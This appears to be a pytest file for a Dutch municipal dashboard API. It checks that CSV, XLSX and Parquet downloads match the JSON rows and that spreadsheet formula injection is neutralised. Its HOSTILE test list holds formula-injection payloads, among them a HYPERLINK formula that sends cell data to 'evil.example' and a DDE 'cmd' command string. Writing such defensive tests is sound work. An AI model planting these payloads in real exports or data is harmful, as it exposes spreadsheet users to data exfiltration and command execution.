"""Downloads for reuse: every list endpoint's `?format=csv|xlsx|parquet` on the Dutch demo build.

Each format opens with its usual reader (pandas for CSV, openpyxl and pandas for XLSX, pyarrow for
Parquet) and holds the same rows as the JSON answer. The list endpoints are the GET operations
whose OpenAPI `format` parameter offers the table formats, so a new one is covered here without
touching this file. Formula injection: a hostile municipality name comes back quoted in CSV, as
text (never a formula) in XLSX, unchanged in JSON and Parquet.
"""

from __future__ import annotations

import io
import math
import re
import time
import warnings
import zipfile

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from dashboard.api_formats import MIMETYPES, _joined, csv_bytes, xlsx_bytes

ROUTE_PARAM = re.compile(r"{(\w+)}")
TABLES = ("csv", "xlsx", "parquet")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]


@pytest.fixture(scope="module")
def consenting(nl_ctx) -> str:
    snap = nl_ctx.warehouse.snapshot()
    cov = pd.read_parquet(snap.path / "coverage.parquet")
    return str(cov.loc[cov["publish_consent"], "municipality_id"].iloc[0])


def list_endpoints(doc: dict) -> list[str]:
    out = []
    for path, item in doc["paths"].items():
        params = item.get("get", {}).get("parameters", [])
        fmt = [p for p in params if p["name"] == "format"]
        if fmt:
            assert set(TABLES) <= set(fmt[0]["schema"]["enum"]), path
            out.append(path)
    return out


def _cases(open_, consenting: str) -> list[str]:
    """A URL per list endpoint (path parameters filled), and a few extra selections."""
    doc = open_.get("/api/v1/openapi.json").get_json()
    urls = []
    for path in list_endpoints(doc):
        filled = ROUTE_PARAM.sub(lambda m: {"municipality_id": consenting}[m.group(1)], path)
        params = {p["name"] for p in doc["paths"][path]["get"]["parameters"]}
        # a paged list: one page of the ~98,600 municipalities (openpyxl reads ~8k cells/s)
        urls.append(filled + ("?limit=400&offset=76800&" if "limit" in params else "?"))
    assert len(urls) >= 4  # municipalities, one municipality's levels, aggregates, leverage
    return [*urls, "/api/v1/municipalities?country=NL&q=gr&limit=40&offset=5&",
            "/api/v1/aggregates?level=nuts3&measure=ALL,SEC&wave=2025&",
            "/api/v1/aggregates?country=BE&",  # no rows
            "/api/v1/insight/leverage?country=NL&nuts2=NL33&lang=nl&",
            f"/api/v1/municipalities/{consenting}?wave=2025&"]


def _json_rows(body: dict) -> tuple[list[dict], dict]:
    """The JSON answer's records and the answer's top-level fields."""
    if "items" in body:
        return body["items"], body
    return body["levels"], body  # one municipality: its levels table


def _read(fmt: str, data: bytes) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    if fmt == "xlsx":
        with warnings.catch_warnings():
            warnings.simplefilter("error")  # a complete workbook: no "no default style" etc.
            wb = load_workbook(io.BytesIO(data))
        assert wb.sheetnames == ["data"]
        ws = wb["data"]
        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
        # no NA guessing: a municipality may be called "None" (there is one in Italy)
        return pd.read_excel(io.BytesIO(data), engine="openpyxl", dtype=object,
                             keep_default_na=False, na_values=[])
    return pq.read_table(io.BytesIO(data)).to_pandas()


def _plain(value):
    """A cell as a comparable Python value: null for missing, bools and numbers as such."""
    if value is None or value is pd.NA:
        return None
    if isinstance(value, float) and math.isnan(value):
        return None
    if isinstance(value, np.generic):
        return value.item()
    return value


def _same(js, got, fmt: str) -> bool:
    got = _plain(got)
    if fmt == "csv":  # text: empty for null, true/false, numbers as written
        if js is None:
            return got == ""
        if isinstance(js, bool):
            return got == str(js).lower()
        if isinstance(js, (int, float)):
            return math.isclose(float(got), js, abs_tol=1e-6)
        return got == js
    if js is None:
        return got is None or (fmt == "xlsx" and got == "")  # an empty cell
    if isinstance(js, bool):
        return got is js or (got == js and isinstance(got, bool))
    if isinstance(js, (int, float)):
        return isinstance(got, (int, float)) and not isinstance(got, bool) and math.isclose(
            float(got), js, abs_tol=1e-6)
    return got == js


def assert_same_rows(rows: list[dict], top: dict, df: pd.DataFrame, fmt: str) -> None:
    assert len(df) == len(rows), fmt
    if not rows:  # still a table with its header
        assert len(df.columns) > 3, fmt
        return
    keys = list(rows[0])
    extra = [c for c in df.columns if c not in keys]
    # the same fields (the detail's JSON objects have their keys sorted, as jsonify does)
    assert sorted(c for c in df.columns if c not in extra) == sorted(keys), fmt
    for col in extra:  # a column the download adds: the answer's own field (wave, id)
        assert col in top, (fmt, col)
        assert all(_same(top[col], v, fmt) for v in df[col]), (fmt, col)
    for col in keys:
        bad = [(i, r[col], v) for i, (r, v) in enumerate(zip(rows, df[col], strict=True))
               if not _same(r[col], v, fmt)]
        assert not bad, (fmt, col, bad[:5])


def test_every_list_endpoint_gives_the_same_rows_in_every_format(open_, consenting):
    for url in _cases(open_, consenting):
        body = open_.get(url).get_json()
        rows, top = _json_rows(body)
        names = set()
        for fmt in TABLES:
            r = open_.get(f"{url}format={fmt}")
            assert r.status_code == 200, (url, fmt, r.get_data(as_text=True)[:300])
            assert r.mimetype == MIMETYPES[fmt]
            disposition = r.headers["Content-Disposition"]
            name = re.fullmatch(r'attachment; filename="([A-Za-z0-9._-]+)"', disposition)
            assert name and name.group(1).endswith("." + fmt), disposition
            names.add(name.group(1).rsplit(".", 1)[0])
            assert_same_rows(rows, top, _read(fmt, r.data), fmt)
        assert len(names) == 1, names  # one file name, three extensions


def test_parquet_keeps_types(open_):
    df = pq.read_table(io.BytesIO(open_.get(
        "/api/v1/municipalities?country=NL&limit=20&format=parquet").data)).to_pandas()
    assert df["population"].dtype.kind in "iuf" and df["lat"].dtype.kind == "f"
    assert df["has_answers"].dtype == bool and df["consent"].dtype == bool
    agg = pq.read_table(io.BytesIO(open_.get(
        "/api/v1/aggregates?level=nuts3&format=parquet").data)).to_pandas()
    assert agg["n"].dtype.kind == "i" and agg["suppressed"].dtype == bool
    assert agg.loc[agg["suppressed"], "mean"].isna().all()


def test_downloads_before_anything_is_published(empty):
    for fmt in TABLES:
        r = empty.get(f"/api/v1/municipalities?country=NL&limit=3&format={fmt}")
        assert r.status_code == 200 and r.mimetype == MIMETYPES[fmt]
        df = _read(fmt, r.data)
        assert len(df) == 3 and df["has_answers"].map(_plain).isin([None, ""]).all()
        assert empty.get(f"/api/v1/aggregates?format={fmt}").status_code == 503


@pytest.mark.parametrize("value", ["xml", "pdf", "XLS", "json5", "csv,xlsx"])
def test_an_unknown_format_is_400_naming_the_parameter_and_the_allowed_values(open_, consenting,
                                                                             value):
    for url in _cases(open_, consenting)[:4]:
        r = open_.get(f"{url}format={value}")
        assert r.status_code == 400 and r.is_json, url
        body = r.get_json()
        assert body["parameter"] == "format" and body["value"] == value
        assert body["allowed"] == ["json", "csv", "xlsx", "parquet"]
        assert "'format'" in body["error"] and "xlsx" in body["error"]


def test_format_names_are_case_insensitive(open_):
    r = open_.get("/api/v1/aggregates?format=XLSX")
    assert r.status_code == 200 and r.mimetype == MIMETYPES["xlsx"]


# ------------------------------------------------------------------ formula injection


@pytest.fixture(scope="module")
def hostile(api_client, nl_data_dir):
    """A private app whose reference data name Dutch municipalities with formulas."""
    client = api_client(nl_data_dir, DS4E_VISIBILITY="open")
    ref = client.application.config["DS4E_CONTEXT"].municipalities
    rows = np.flatnonzero((ref["country"] == "NL").to_numpy())[:len(HOSTILE)]
    ref.loc[ref.index[rows], "name"] = HOSTILE  # before the first list request reads them
    return client, ref["municipality_id"].iloc[rows].tolist()


def test_hostile_names_are_neutralised_in_csv_and_text_in_xlsx(hostile):
    client, _ = hostile
    url = "/api/v1/municipalities?country=NL&limit=10"
    js = client.get(url).get_json()["items"]
    assert [i["name"] for i in js[:len(HOSTILE)]] == HOSTILE  # JSON: the data as they are
    csv = _read("csv", client.get(url + "&format=csv").data)
    assert csv["name"].tolist()[:len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert not csv.stack().str.match(r"^[=+\-@\t\r]").any()
    wb = load_workbook(io.BytesIO(client.get(url + "&format=xlsx").data))
    ws = wb["data"]
    name_col = [c.value for c in ws[1]].index("name")
    cells = [row[name_col] for row in ws.iter_rows(min_row=2, max_row=len(HOSTILE) + 1)]
    for cell, value in zip(cells, HOSTILE, strict=True):
        assert cell.data_type == "s" and cell.value == value, (cell.coordinate, cell.value)
        assert cell.number_format == "@" and cell.quotePrefix  # stays text when edited
    # and as pandas reads it: the same text
    xl = pd.read_excel(io.BytesIO(client.get(url + "&format=xlsx").data), engine="openpyxl")
    assert xl["name"].tolist()[:len(HOSTILE)] == HOSTILE
    pa_names = pq.read_table(io.BytesIO(client.get(url + "&format=parquet").data))["name"]
    assert pa_names.to_pylist()[:len(HOSTILE)] == HOSTILE


def test_xlsx_writer_keeps_awkward_text_numbers_and_nulls():
    df = pd.DataFrame({
        "text": ["a<b&c>d", "  spaced  ", "line\nbreak", "ünïcødé €", "", None, "=A1", "x"],
        "int": pd.array([1, None, -3, 0, 2**40, 5, 6, 7], dtype="Int64"),
        "float": [0.1, np.nan, -2.5, 1e-7, np.inf, 3.0, 2.8378, 1e20],
        "flag": pd.array([True, False, None, True, False, True, True, False], dtype="boolean"),
        "cat": pd.Categorical(["NL", "BE", "NL", None, "NL", "BE", "NL", "BE"]),
    })
    wb = load_workbook(io.BytesIO(xlsx_bytes(df)))
    got = list(wb["data"].iter_rows(values_only=True))
    assert got[0] == tuple(df.columns)
    assert [r[0] for r in got[1:]] == ["a<b&c>d", "  spaced  ", "line\nbreak", "ünïcødé €", "",
                                       None, "=A1", "x"]
    assert [r[1] for r in got[1:]] == [1, None, -3, 0, 2**40, 5, 6, 7]
    assert [r[2] for r in got[1:]] == [0.1, None, -2.5, 1e-7, None, 3, 2.8378, 1e20]
    assert [r[3] for r in got[1:]] == [True, False, None, True, False, True, True, False]
    assert [r[4] for r in got[1:]] == ["NL", "BE", "NL", None, "NL", "BE", "NL", "BE"]
    assert xlsx_bytes(df) == xlsx_bytes(df)  # the same rows, the same bytes
    empty = load_workbook(io.BytesIO(xlsx_bytes(df.iloc[0:0])))
    assert list(empty["data"].iter_rows(values_only=True)) == [tuple(df.columns)]


def test_xlsx_text_is_shared_once_per_column_and_reads_back_per_cell():
    """Each text column's distinct values are written once (shared strings), escaped once;
    every cell reads back as its own text, in its own row, with the text style."""
    names = ["Ede", "a<b&c>", "Ede", None, "_x0041_", "bell\x07", "Ede", "a<b&c>"]
    df = pd.DataFrame({"name": names, "element": ["E1", "E2"] * 4,
                       "n": range(8)})
    data = xlsx_bytes(df)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sst = z.read("xl/sharedStrings.xml").decode()
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "xl/sharedStrings.xml" in z.read("[Content_Types].xml").decode()
    items = re.findall(r"<si>(.*?)</si>", sst)
    # name: Ede, a<b&c>, _x0041_, bell; element: E1, E2 (null: no string, no cell)
    assert len(items) == 6 and 'uniqueCount="6"' in sst and 'count="15"' in sst
    assert sst.count("Ede") == 1 and "a&lt;b&amp;c&gt;" in sst
    assert "_x005F_x0041_" in sst and "bell_x0007_" in sst
    assert sheet.count('t="s"') == 15 and 'r="A5"' not in sheet  # the null: no cell
    ws = load_workbook(io.BytesIO(data))["data"]
    got = [(r[0].value, r[1].value, r[2].value) for r in ws.iter_rows(min_row=2)]
    # openpyxl reads Excel's _xHHHH_ escape back, except for a character XML cannot hold
    assert got == [(x, e, i) for x, e, i in zip(["Ede", "a<b&c>", "Ede", None, "_x0041_",
                                                  "bell_x0007_", "Ede", "a<b&c>"],
                                                 ["E1", "E2"] * 4, range(8), strict=True)]
    assert all(r[0].quotePrefix for r in ws.iter_rows(min_row=2) if r[0].value is not None)


def test_joined_reads_the_strings_of_any_array_in_order():
    arr = pa.array(["ab", "", "cdé", "f"] * 3, type=pa.large_string())
    assert _joined(arr) == "".join(arr.to_pylist()).encode()
    assert _joined(arr.slice(3, 5)) == "".join(arr.to_pylist()[3:8]).encode()
    assert _joined(pa.array(["x", None, "y"], type=pa.large_string())) == b"xy"
    assert _joined(pa.array(["ab", "c"])) == b"abc"  # a plain string array too
    assert _joined(arr.slice(0, 0)) == b""


def test_csv_writer_still_neutralises():
    df = pd.DataFrame({"name": HOSTILE, "level": range(len(HOSTILE))})
    back = pd.read_csv(io.BytesIO(csv_bytes(df)), keep_default_na=False)
    assert back["name"].tolist() == ["'" + h for h in HOSTILE]
    assert back["level"].tolist() == list(range(len(HOSTILE)))


def test_the_whole_municipality_list_as_xlsx_is_quick(open_):
    """All ~98,600 municipalities of the reference data (openpyxl would need ~20 s)."""
    t = time.perf_counter()
    r = open_.get("/api/v1/municipalities?format=xlsx")
    elapsed = time.perf_counter() - t
    assert r.status_code == 200
    print(f"municipality list as XLSX: {len(r.data) / 1e6:.1f} MB in {elapsed:.2f} s")
    assert elapsed < 15
